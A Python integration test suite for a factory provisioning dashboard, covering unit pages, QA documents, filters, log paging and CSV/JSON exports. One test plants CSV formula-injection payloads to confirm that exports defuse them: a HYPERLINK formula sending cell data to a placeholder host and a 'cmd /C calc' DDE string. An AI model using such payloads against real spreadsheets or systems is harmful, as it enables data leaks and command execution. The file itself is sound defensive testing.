"""What pages show of units, without a browser; and addresses with serial numbers as they are in reality."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from contextlib import closing
from dataclasses import replace
from html import unescape
from typing import Any
from urllib.error import HTTPError
from urllib.parse import quote, urlencode
from urllib.request import Request, urlopen

import pytest

from gprov.domain.erase.report import UnitIdentity
from gprov.domain.erase.report_making import make_report
from gprov.domain.erase.report_text import report_bytes
from gprov.domain.events import LogLine
from gprov.domain.factory.view.addresses import unit_path
from gprov.domain.factory.view.csv_cells import plain_cell
from tests.integ.pages.stage import MINUTE, PageServer, UnitOnLine, running
from tests.unit.erase.outcomes import OVERWRITTEN, facts_of


def get(server: PageServer, address: str, accept: str = "*/*") -> tuple[int, str]:
    """Status, and the body as text."""
    try:
        with urlopen(Request(f"{server.url}{address}", headers={"Accept": accept})) as reply:
            return reply.status, reply.read().decode()
    except HTTPError as error:
        return error.code, error.read().decode()


def text(page: str) -> str:
    """As it is read: without tags, blanks as one."""
    return re.sub(r"\s+", " ", unescape(re.sub("<[^>]*>", " ", page)))


def test_every_situation_has_its_own_word(line: PageServer) -> None:
    status, page = get(line, "/recent/")
    assert status == 200
    rows = re.findall(r"<tr data-key.*?</tr>", page, re.DOTALL)
    found = {serial: (word, text(row)) for row in rows for serial, word in [_serial_and_word(row)]}
    assert {serial: word for serial, (word, _) in found.items() if not serial.startswith("GP2611-03")} == {
        "GP2611-04180": "restored",
        "GP2611-04181": "restored",
        "GP2611-04182": "restored",
        "GP2611-04203": "provisioned",
        "GP2611-04207": "failed",
        "GP2611-04209": "no report",
        "GP2611-04210": "aborted",
        "GP2611-04211": "waiting",
        "GP2611-04212": "running",
        "GP2611-04213": "running",
        "GP2611-04214": "unknown",
        "UNKNOWN_SN_5678900A0B0C": "failed",
    }
    assert "no report for 35 min" in found["GP2611-04209"][1]
    assert "no first restore was reported within 20 min" in found["GP2611-04203"][1]
    assert "WIDGET.LNX.SHINY.2026-10-01.1042.upd: 70%" in found["GP2611-04212"][1]
    assert "To do: Board, product or serial number match no entry" in found["UNKNOWN_SN_5678900A0B0C"][1]


def _serial_and_word(row: str) -> tuple[str, str]:
    serial = re.search(r'<th scope="row"><a href="[^"]*">([^<]*)<', row)
    word = re.search(r'class="word tone-[a-z]+">([^<]*)<', row)
    assert serial is not None
    assert word is not None
    return serial[1], word[1]


def test_the_page_of_a_failed_unit(line: PageServer) -> None:
    _, page = get(line, "/view/GP2611-04207/")
    shown = text(page)
    for part in (
        "failed Provisioning failed",
        "Reported reason: GP2611-04207 is not as specified for GP-200 (3 difference(s))",
        "Kind of failure: Hardware is not as specified",
        "To do: Compare required and detected hardware",
        "MFG_FAILED 2026-11-30 13:18:40 (46 min ago)",
        "$.RamMegs 16384 (±1 %) 8192",
        "Provisioning 2026-11-30 13:18:00 40 s failed 1",
        "eth0 56:78:90:0a:0b:0c",
        "Management controller (BMC) 56:78:90:0a:0b:10",
        "differences.json differences from the specification kept",
        "None were made for this unit.",
    ):
        assert part in shown


def test_the_page_of_a_restored_unit(line: PageServer) -> None:
    shown = text(get(line, "/view/GP2611-04181/")[1])
    assert "restored Provisioned and restored" in shown
    assert "Handed out 1 time. Sealed" in shown
    assert re.search(r"Hand-outs, newest first .* 127\.0\.0\.1 1 ", shown)
    assert re.search(r"QA document released .* the first restore succeeded", shown)
    runs = re.findall(r"(Restore|Provisioning) \S+ \S+ ((?:\d+ \w+ ?)+) succeeded (\d)", shown)
    assert runs == [("Restore", "5 min", "2"), ("Provisioning", "10 min", "1")]


def test_a_qa_document_is_readable_only_if_it_was_released(line: PageServer) -> None:
    line.until(lambda: "QA document discarded" in text(get(line, "/view/GP2611-04203/")[1]))
    waiting = get(line, "/view/GP2611-04211/")[1]
    assert "held until the first restore succeeds" in text(waiting)
    for serial in ("GP2611-04203", "GP2611-04211"):
        for number in range(1, 60):
            query = urlencode({"serial": serial, "number": number})
            assert get(line, f"/document/?{query}")[0] == 404


def test_documents_belong_to_their_unit(line: PageServer) -> None:
    found = re.search(r'href="/document/\?serial=GP2611-04207&amp;number=(\d+)"', get(line, "/view/GP2611-04207/")[1])
    assert found is not None
    assert get(line, f"/document/?serial=GP2611-04207&number={found[1]}")[0] == 200
    assert get(line, f"/document/?serial=GP2611-04181&number={found[1]}")[0] == 404
    assert get(line, "/document/?serial=GP2611-04181&number=x")[0] == 404


def test_erase_certificates_are_linked(own_server: PageServer) -> None:
    unit = UnitOnLine(own_server, "SN-1")
    facts = replace(facts_of(OVERWRITTEN), unit=UnitIdentity("SN-1", "", "", ""))
    unit.register(report_bytes(make_report(facts)))
    page = get(own_server, "/view/SN-1/")[1]
    assert 'href="/erasure/1"' in page
    assert get(own_server, "/erasure/1")[0] == 200


def test_the_start_page_leads_to_the_units(line: PageServer) -> None:
    with urlopen(f"{line.url}/") as reply:
        assert reply.url == f"{line.url}/recent/"


REAL = [
    "/6XQ2PN2/CN 0.1+?&#%2F",
    "A/B",
    "A//B",
    "A/",
    "..",
    ".",
    "100%",
    'a"b',
    "A B",
    "view",
    "A;B=C",
    "=1+1",
    "\\\\x",
]


@pytest.fixture(scope="module")
def real_serials(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with running(tmp_path_factory.mktemp("serials")) as server:
        for serial in REAL:
            UnitOnLine(server, serial).report(LogLine(f"I am {serial}"))
        yield server


@pytest.mark.parametrize("serial", REAL)
def test_serial_numbers_in_addresses(real_serials: PageServer, serial: str) -> None:
    """Links have the one form; people and scripts also escape everything into the path, or into the query."""
    expected = f"I am {serial}"
    forms = [unit_path("view", serial), f"/view/{quote(serial, safe='')}/", f"/view/?{urlencode({'serial': serial})}"]
    for address in forms:
        status, page = get(real_serials, address)
        assert (status, expected in unescape(page)) == (200, True), address
    for address in (unit_path("unit-state", serial), f"/unit-state/?{urlencode({'serial': serial})}"):
        assert get(real_serials, address) == (200, "UNKNOWN\n")


def test_the_state_for_scripts(line: PageServer) -> None:
    assert get(line, "/unit-state/GP2611-04207") == (200, "MFG_FAILED\n")
    assert get(line, "/unit-state/none") == (404, "no such unit\n")
    for status, body in (
        get(line, "/unit-state/GP2611-04210?format=json"),
        get(line, "/unit-state/GP2611-04210", accept="application/json"),
    ):
        assert status == 200
        assert json.loads(body) == {
            "serial": "GP2611-04210",
            "state": "MFG_FAILED",
            "state_since": "2026-11-30T13:48:00Z",
            "last_report": "2026-11-30T13:48:00Z",
            "word": "aborted",
            "sentence": "Provisioning was aborted",
            "needs_person": True,
            "concern": "",
            "failure": "Burn-in aborted",
            "error": "burn-in aborted after 482 s: by a person at the unit",
            "action": "The unit is neither good nor bad. Start provisioning again.",
        }
    assert get(line, "/unit-state/none?format=json") == (404, '{"error": "no such unit"}\n')


# With the units of this day that they show: last two digits of their serial numbers.
FILTERS: list[tuple[dict[str, str], str]] = [
    ({}, "80 81 82 03 07 09 10 11 12 13 14 0C"),
    ({"state": "attention"}, "03 07 09 10 0C"),
    ({"state": "failed"}, "07 10 0C"),
    ({"state": "running", "platform": "GP-80"}, "13"),
    ({"q": "04207"}, "07"),
    ({"q": "gp-1000"}, "12"),
    ({"q": "56:78:90:0A:0B:0D"}, "07"),
    ({"q": "567890-0a"}, ""),
    ({"q": "5678900a0b0c"}, "07 0C"),
    ({"error": "NOT AS SPECIFIED"}, "07"),
    ({"since": "2026-11-30 13:30", "until": "2026-11-30 14:04"}, "09 10 11"),
    ({"q": "%"}, ""),
    ({"q": "_SN_"}, "0C"),
]


@pytest.mark.parametrize(("asked", "units"), FILTERS)
def test_exports_hold_what_the_list_shows(line: PageServer, asked: dict[str, str], units: str) -> None:
    query = urlencode(asked)
    page = get(line, f"/recent/?{query}")[1]
    rows = [_serial_and_word(row) for row in re.findall(r"<tr data-key.*?</tr>", page, re.DOTALL)]
    links = re.findall(r'href="(/units\.[a-z]+[^"]*)"', page)
    exported = [get(line, unescape(link))[1] for link in links]
    table = list(csv.DictReader(io.StringIO(exported[0], newline="")))
    assert [(plain_cell(row["serial"]), row["word"]) for row in table] == rows
    records = json.loads(exported[1])["units"]
    assert [(record["serial"], record["word"]) for record in records] == rows
    for row, record in zip(table, records, strict=True):
        assert plain_cell(row["error"]) == record["error"]
        assert row["macs"].split() == record["macs"]
    assert {serial[-2:] for serial, _ in rows if not serial.startswith("GP2611-03")} == set(units.split())


def test_pages_of_a_long_list_hold_every_unit_once(own_server: PageServer) -> None:
    serials = [f"SN-{number}" for number in range(120)]
    for serial in serials:
        UnitOnLine(own_server, serial).report(LogLine("x"))
    found, address = [], "/recent/?state=unknown"
    while address:
        page = get(own_server, address)[1]
        found += [_serial_and_word(row)[0] for row in re.findall(r"<tr data-key.*?</tr>", page, re.DOTALL)]
        link = re.search(r'href="([^"]*)" rel="next"', page)
        address = unescape(link[1]) if link else ""
    assert found == serials[::-1]
    table = list(csv.DictReader(io.StringIO(get(own_server, "/units.csv")[1], newline="")))
    assert [row["serial"] for row in table] == found


def test_cells_of_exports_are_no_formulas(own_server: PageServer) -> None:
    serial = '=HYPERLINK("http://x/?"&A1)'
    unit = UnitOnLine(own_server, serial, "@SUM(1)")
    unit.begin()
    unit.fail("-2+3+cmd|' /C calc'!A0")
    (row,) = csv.DictReader(io.StringIO(get(own_server, "/units.csv")[1], newline=""))
    assert (row["serial"], row["code_name"]) == (f"'{serial}", "'@SUM(1)")
    assert row["error"] == "'-2+3+cmd|' /C calc'!A0"
    (record,) = json.loads(get(own_server, "/units.json")[1])["units"]
    assert record["serial"] == serial


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("/recent/?since=noon", "Last report from (UTC) must be a time like 2026-11-30 or 2026-11-30 14:05 (UTC)"),
        ("/recent/?state=broken", "State must be one of"),
        ("/recent/?after=1", "after is not the end of a page"),
        ("/units.csv?until=noon", "until must be a time like"),
        ("/view/GP2611-04207/?session=x", "Session must be a number from 1"),
        ("/view/GP2611-04207/?before=x", "before is not a place in the log"),
        ("/figures/?span=1y", "span must be one of 24h, 7d, 30d"),
    ],
)
def test_what_an_address_has_wrong_is_said(line: PageServer, address: str, shown: str) -> None:
    status, page = get(line, address)
    assert status == 422
    assert shown in text(page)


def test_what_is_not_there(line: PageServer) -> None:
    for address in ("/view/none/", "/view/", f"/view/{'x' * 65}/", "/document/?serial=none&number=1"):
        status, page = get(line, address)
        assert status == 404
        assert "<h1>Not found</h1>" in page


def test_the_log_is_filtered_and_paged(own_server: PageServer) -> None:
    unit = UnitOnLine(own_server, "SN-1")
    unit.report(*(LogLine(f"line {each:03} text" if each % 2 else f"Zeile {each:03} Größe") for each in range(250)))
    unit.boot()
    unit.fail("the only error")

    def lines(address: str) -> tuple[list[str], dict[str, str]]:
        page = get(own_server, address)[1]
        rows = re.findall(r'<td class="mono text">([^<]*)</td></tr>', page)
        links = {name: unescape(link) for link, name in re.findall(r'href="([^"]*)#h-log"[^>]*>(\w+)</a>', page)}
        return [unescape(row) for row in rows], links

    newest, links = lines("/view/SN-1/")
    assert newest[-2:] == ["the only error", "MFG_FAILED"]
    assert len(newest) == 100
    assert set(links) == {"Oldest", "Older"}
    older, links_of_older = lines(links["Older"])
    assert older[-1] == "line 151 text"
    assert lines(links_of_older["Newer"])[0] == newest
    oldest, links = lines(links["Oldest"])
    assert (oldest[0], oldest[-1]) == ("Zeile 000 Größe", "line 099 text")
    assert set(links) == {"Newer", "Newest"}
    walked = [*oldest]
    while "Newer" in links:
        rows, links = lines(links["Newer"])
        walked += rows
    assert walked == [*oldest, *older[len(oldest) + len(older) + len(newest) - 252 :], *newest]

    assert lines("/view/SN-1/?type=ERROR")[0] == ["the only error"]
    assert lines("/view/SN-1/?session=2&type=people")[0] == ["the only error", "MFG_FAILED"]
    assert len(lines("/view/SN-1/?text=LINE+1")[0]) == 50
    assert lines("/view/SN-1/?text=gr%C3%B6%C3%9Fe&before=4")[0] == ["Zeile 000 Größe", "Zeile 002 Größe"]
    assert lines("/view/SN-1/?text=type")[0] == []  # the name of a field is no text
    assert lines("/view/SN-1/?until=2026-11-30")[0] == []


def test_figures(line: PageServer) -> None:
    shown = text(get(line, "/figures/?span=24h")[1])
    assert "Hardware is not as specified 1" in shown
    assert "Burn-in aborted 1" in shown
    assert re.search(r"not identified 0 0 1 0", shown)
    # 14:00 to 14:05: one provisioned and none restored; 09:00: three of five hours ago.
    assert "14:00 1 0 0 0" in shown
    assert re.search(r"09:00 \d \d 0 0", shown)
    assert re.search(r"GP-200 .*10 min", shown)


def test_the_wall_screen_begins_with_what_needs_a_person(line: PageServer) -> None:
    page = get(line, "/line/")[1]
    tiles = re.findall(r'<span class="count">(\d+)</span> <span class="tile-word">([^<]*)</span>', page)
    counts = {word: int(count) for count, word in tiles}
    alike = {"aborted": 1, "no report": 1, "provisioned": 1, "unknown": 1, "waiting": 1, "running": 2}
    assert alike.items() <= counts.items()
    exported = [record["word"] for record in json.loads(get(line, "/units.json?since=2026-11-29+14:05")[1])["units"]]
    assert counts == {word: exported.count(word) for word in set(exported)}
    rows = [_serial_and_word(row) for row in re.findall(r"<tr data-key.*?</tr>", page, re.DOTALL)]
    order = [word for _, word in rows]
    needs = {"failed", "aborted", "no report", "provisioned"}
    assert order[-4:] == ["unknown", "waiting", "running", "running"]
    assert set(order[:-4]) == needs
    assert [serial for serial, word in rows if word == "running"] == ["GP2611-04212", "GP2611-04213"]


def test_a_unit_that_a_person_has_to_look_at_is_shown_whatever_its_state_is(own_server: PageServer) -> None:
    for serial in ("SN-1", "SN-2"):
        UnitOnLine(own_server, serial).whole_way()
    with closing(sqlite3.connect(own_server.folder / "store" / "factory.sqlite")) as db:
        db.execute("UPDATE units SET concern = 'two sessions asked for its <passwords>' WHERE serial = 'SN-1'")
        db.commit()
    shown = get(own_server, "/recent/?state=attention")[1]
    assert "A person has to look at this unit: two sessions asked for its <passwords>" in text(shown)
    for page in (shown, get(own_server, "/line/")[1]):
        rows = re.findall(r"<tr data-key.*?</tr>", page, re.DOTALL)
        assert [_serial_and_word(row) for row in rows] == [("SN-1", "restored")]
    (record,) = json.loads(get(own_server, "/units.json?state=attention")[1])["units"]
    assert record["concern"] == "two sessions asked for its <passwords>"


def test_words_follow_the_settings(tmp_path: Any) -> None:
    with running(tmp_path) as server:
        UnitOnLine(server, "SN-1").begin()
        server.later(9 * MINUTE)
        assert "Provisioning is running" in get(server, "/recent/")[1]
        server.later(2 * MINUTE)
        assert "no report for 11 min" in get(server, "/recent/")[1]
